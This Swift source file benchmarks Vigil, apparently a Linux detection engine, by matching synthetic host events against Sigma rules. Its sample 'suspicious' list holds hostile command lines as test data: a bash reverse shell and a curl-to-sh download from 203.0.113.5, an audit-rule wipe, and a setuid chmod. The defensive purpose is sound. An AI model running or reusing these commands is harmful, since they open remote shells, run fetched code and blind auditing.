import Foundation
import VigilCore
import VigilRules

extension Benchmarks {
    /// `vigil-bench rules SIGMA_DIR BUILTIN_DIR EVENTS OUT_DIR`: loads every active SigmaHQ Linux rule plus
    /// the built-in ruleset, generates a realistic mix of EVENTS events (mostly process starts, some file,
    /// network and auth events, a few suspicious), and prints `rules_events_per_s` (one core, median of 3)
    /// and `rules_matches`. Writes the same rules and events to OUT_DIR (rules.json, events.jsonl) for the
    /// pySigma SQLite reference.
    static func rules(_ arguments: [String]) throws {
        guard arguments.count >= 4, let count = Int(arguments[2]) else {
            throw RulesError(
                code: "bench.usage", message: "usage: vigil-bench rules SIGMA_DIR BUILTIN_DIR EVENTS OUT_DIR")
        }
        let out = URL(fileURLWithPath: arguments[3])
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        var files: [(text: String, file: String)] = []
        for directory in [arguments[0], arguments[1]] {
            let walker = FileManager.default.enumerator(atPath: directory)
            while let entry = walker?.nextObject() as? String {
                guard entry.hasSuffix(".yml"), !entry.contains("unsupported/"), !entry.contains("deprecated/") else {
                    continue
                }
                let path = directory + "/" + entry
                files.append((try String(contentsOfFile: path, encoding: .utf8), path))
            }
        }
        let result = SigmaLoader.load(files)
        let set = RuleSet(rules: result.rules, correlations: result.correlations)
        print(
            "rules_loaded \(result.rules.count) rules, \(result.correlations.count) correlations, \(result.errors.count) errors"
        )
        print("rules_unfiltered \(set.unfilteredRuleTitles.count) \(set.unfilteredRuleTitles)")
        var generator = BenchEventMix(seed: 42)
        let events = (0..<count).map { generator.next(id: $0 + 1) }
        // RULES_PROFILE_LOOPS=N: only match the events N times (for `perf record`), print the rate and stop.
        if let loops = ProcessInfo.processInfo.environment["RULES_PROFILE_LOOPS"].flatMap({ Int($0) }), loops > 0 {
            let matcher = RuleMatcher(set)
            var n = 0
            let s = cpuMedian(runs: 1) {
                for _ in 0..<loops { for event in events { matcher.match(event) { _ in n += 1 } } }
            }
            print("rules_profile_events_per_s \(String(format: "%.0f", Double(count * loops) / s)) matches \(n)")
            return
        }
        // Same rules and events for the reference (correlations are Vigil-only: the reference runs detection rules).
        let ruleList: [[String: String]] = set.rules.map {
            ["key": $0.metadata.key, "path": $0.metadata.origin.file, "logsource": $0.logSource.indexKey]
        }
        try JSONSerialization.data(withJSONObject: ruleList).write(to: out.appendingPathComponent("rules.json"))
        var lines = ""
        lines.reserveCapacity(count * 300)
        for event in events {
            let keys = FieldMapping.logSourceKeys(of: event).filter { $0 != "*" }
            var fields: [String: String] = [:]
            for key in keys {
                for spec in FieldMapping.all where spec.sources.contains(key) {
                    if let value = spec.extract(event) { fields[spec.name] = value }
                }
            }
            if let raw = FieldMapping.keywordText(event) { fields["_raw"] = raw }
            let object: [String: Any] = ["id": Int(event.id) ?? 0, "ls": keys, "f": fields]
            lines += String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self) + "\n"
        }
        try Data(lines.utf8).write(to: out.appendingPathComponent("events.jsonl"))
        // Vigil: rules only (the figure compared with the reference), then rules plus correlations.
        var matches = 0
        var matchLines = ""
        let seconds = cpuMedian(runs: 3) {
            let matcher = RuleMatcher(set)
            matches = 0
            for event in events { matcher.match(event) { _ in matches += 1 } }
        }
        let matcher = RuleMatcher(set)
        for event in events {
            matcher.match(event) { matchLines += "\(event.id) \(set.rules[$0].metadata.key)\n" }
        }
        try Data(matchLines.utf8).write(to: out.appendingPathComponent("vigil-matches.txt"))
        let withCorrelations = cpuMedian(runs: 3) {
            let detector = Detector(set)
            for event in events { blackHole(detector.process(event)) }
        }
        print("rules_events \(count)")
        print("rules_cpu_seconds \(String(format: "%.4f", seconds))")
        print("rules_events_per_s \(String(format: "%.0f", Double(count) / seconds))")
        print("rules_with_correlations_events_per_s \(String(format: "%.0f", Double(count) / withCorrelations))")
        print("rules_matches \(matches)")
        print("rules_evaluated_per_event \(String(format: "%.2f", Double(matcher.evaluatedRules) / Double(count)))")
    }
}

/// Median thread CPU time of `runs` runs of `body`: one core's work, whatever else the machine is doing.
func cpuMedian(runs: Int, _ body: () throws -> Void) rethrows -> Double {
    func now() -> Double {
        var spec = timespec()
        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &spec)
        return Double(spec.tv_sec) + Double(spec.tv_nsec) / 1e9
    }
    var times: [Double] = []
    for _ in 0..<runs {
        let start = now()
        try body()
        times.append(now() - start)
    }
    times.sort()
    return times[times.count / 2]
}

/// A realistic host's event mix: 70% process starts, 12% file events, 8% network connections, 10% auth-log
/// lines; about 1 in 200 events is something a rule looks for.
struct BenchEventMix {
    var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func random(_ n: Int) -> Int {
        state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
        return Int((state >> 33) % UInt64(n))
    }

    static let commands: [(String, String)] = [
        ("/usr/bin/ls", "ls -la /var/www"), ("/usr/bin/bash", "bash -c /usr/local/bin/healthcheck.sh"),
        ("/usr/bin/python3", "python3 /opt/app/manage.py runjob"), ("/usr/bin/grep", "grep -r ERROR /srv/app/logs"),
        ("/usr/sbin/nginx", "nginx -s reload"), ("/usr/bin/git", "git pull --ff-only"),
        ("/usr/bin/sed", "sed -n 1,20p /etc/hosts"), ("/usr/bin/cat", "cat /proc/meminfo"),
        ("/usr/bin/ps", "ps aux"), ("/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer"),
        ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log"), ("/usr/bin/find", "find /tmp -mtime +7 -delete"),
        ("/usr/bin/node", "node /srv/api/server.js"), ("/usr/bin/java", "java -Xmx2g -jar /opt/app/app.jar"),
        ("/usr/bin/logger", "logger -t backup done"), ("/usr/bin/date", "date +%s"),
    ]
    static let suspicious: [(String, String)] = [
        ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), ("/usr/sbin/auditctl", "auditctl -D"),
        ("/usr/bin/curl", "curl -fsSL http://203.0.113.5/x.sh | sh"), ("/tmp/.x/kworker", "/tmp/.x/kworker"),
        ("/usr/bin/base64", "base64 -d /tmp/payload"), ("/usr/bin/chmod", "chmod u+s /tmp/sh"),
        ("/usr/bin/nc", "nc -lvnp 4444"), ("/usr/bin/crontab", "crontab /tmp/c"),
    ]
    static let parents = ["/usr/bin/bash", "/usr/sbin/sshd", "/usr/lib/systemd/systemd", "/usr/sbin/cron"]
    static let files = [
        "/var/www/html/index.html", "/srv/app/cache/session-42", "/var/lib/postgresql/15/main/base/1/2601",
        "/home/deploy/.cache/pip/http/a/b", "/etc/nginx/sites-enabled/default", "/tmp/upload-7781",
    ]
    static let authLines = [
        "sshd[2211]: Accepted publickey for deploy from 10.0.4.20 port 51234 ssh2",
        "sshd[2211]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
        "CRON[3000]: (root) CMD (/usr/local/bin/backup.sh)",
        "sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart app",
        "sshd[2290]: Failed password for invalid user admin from 198.51.100.7 port 40022 ssh2",
    ]

    mutating func next(id: Int) -> Event {
        let time = 1_700_000_000_000 + Int64(id) * 3
        let kind = random(100)
        let rare = random(200) == 0
        if kind < 70 {
            let (image, command) =
                rare
                ? BenchEventMix.suspicious[random(BenchEventMix.suspicious.count)]
                : BenchEventMix.commands[random(BenchEventMix.commands.count)]
            let parent = BenchEventMix.parents[random(BenchEventMix.parents.count)]
            return Event(
                id: "\(id)", classUID: .processActivity, activityID: Activity.Process.launch, time: time,
                metadata: EventMetadata(logName: "audit"),
                process: Process(
                    pid: 1000 + id % 30000, cmdLine: command, file: FileObject(path: image), cwd: "/srv/app",
                    user: User(uid: "33", name: "www-data"),
                    parentProcess: ParentProcess(pid: 900, cmdLine: parent, file: FileObject(path: parent))),
                unmapped: ["type": "EXECVE"])
        }
        if kind < 82 {
            let path = rare ? "/etc/ld.so.preload" : BenchEventMix.files[random(BenchEventMix.files.count)]
            return Event(
                id: "\(id)", classUID: .fileSystemActivity, activityID: Activity.File.update, time: time,
                metadata: EventMetadata(logName: "fim"),
                actor: Actor(process: Process(pid: 4242, file: FileObject(path: "/usr/sbin/nginx"))),
                file: FileObject(path: path))
        }
        if kind < 90 {
            return Event(
                id: "\(id)", classUID: .networkActivity, activityID: Activity.Network.open, time: time,
                metadata: EventMetadata(logName: "audit"),
                actor: Actor(process: Process(pid: 4242, file: FileObject(path: "/usr/bin/python3"))),
                srcEndpoint: Endpoint(ip: "10.0.0.5", port: 40000 + id % 2000),
                dstEndpoint: Endpoint(ip: rare ? "203.0.113.5" : "10.0.0.9", port: rare ? 4444 : 5432))
        }
        let line = "Dec 10 06:55:48 web1 " + BenchEventMix.authLines[random(BenchEventMix.authLines.count)]
        let record = SyslogParser.parse(Substring(line), year: 2026) ?? SyslogRecord(time: nil, message: line)
        var event = AuthLogInterpreter.event(record, line: line, id: "\(id)")
        event.time = time
        return event
    }
}
